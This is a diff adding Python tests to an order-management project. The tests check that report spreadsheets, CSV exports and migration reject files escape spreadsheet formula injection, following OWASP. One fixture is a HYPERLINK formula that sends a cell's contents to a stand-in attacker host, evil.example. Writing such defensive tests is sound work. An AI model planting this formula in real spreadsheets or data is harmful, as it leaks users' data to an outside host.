@@ -317,3 +317,59 @@ def test_stock_quantities_are_whole_and_not_negative(tmp_path: Path) -> None:
     assert [(b.record, b.field) for b in bad] == [(2, "on_hand"), (3, "on_hand"),
                                                   (4, "reserved"), (5, "on_hand")]
     assert "3.7" in bad[0].reason
+
+
+# -- 5. spreadsheet formula injection ----------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
+
+
+def test_report_cells_from_data_never_become_formulas(tmp_path: Path) -> None:
+    import csv
+
+    from openpyxl import load_workbook
+    from test_finance_reports import BILLS, DATA
+
+    from orderhub.finance import Period, import_settlements, reconcile, write_reports
+    from orderhub.model import Order
+
+    store = OrderStore.open(f"sqlite:///{tmp_path / 'orderhub.db'}")
+    docs = json.loads((DATA / "orders.json").read_text())
+    for doc in docs:
+        doc["shop_id"] = EVIL
+    store.upsert([Order.model_validate(o) for o in docs])
+    import_settlements(store, BILLS)
+    files = write_reports(reconcile(store, Period.month("2025-11")), tmp_path / "out")
+    book = load_workbook(files.xlsx)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == "'" + EVIL for c in cells)
+    assert any(isinstance(c.value, float) and c.value < 0 for c in cells)  # still numbers
+    with files.orders_csv.open(encoding="utf-8-sig") as fh:
+        rows = list(csv.reader(fh))
+    assert {row[1] for row in rows[1:]} == {"'" + EVIL}
+    with files.differences_csv.open(encoding="utf-8-sig") as fh:
+        text = fh.read()
+    assert "-159.00" in text and "'-159.00" not in text
+
+
+def test_safe_cell_follows_owasp() -> None:
+    from orderhub.sheets import safe_cell
+
+    assert [safe_cell(v) for v in ("=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=x")] == [
+        "'=1+2", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=x"]
+    assert [safe_cell(v) for v in ("-12.50", "+86", "-", "王小明", -3, None)] == [
+        "-12.50", "+86", "-", "王小明", -3, None]
+
+
+def test_migrate_rejects_file_is_neutralized(tmp_path: Path) -> None:
+    import csv
+
+    from orderhub.migrate.convert import RowReject
+    from orderhub.migrate.importer import write_rejects
+
+    path = tmp_path / "legacy.rejects.csv"
+    write_rejects(path, ("订单号", "买家"), [RowReject(2, "bad", None, None, ("1", EVIL))])
+    with path.open(encoding="utf-8-sig") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][:2] == ["1", "'" + EVIL]
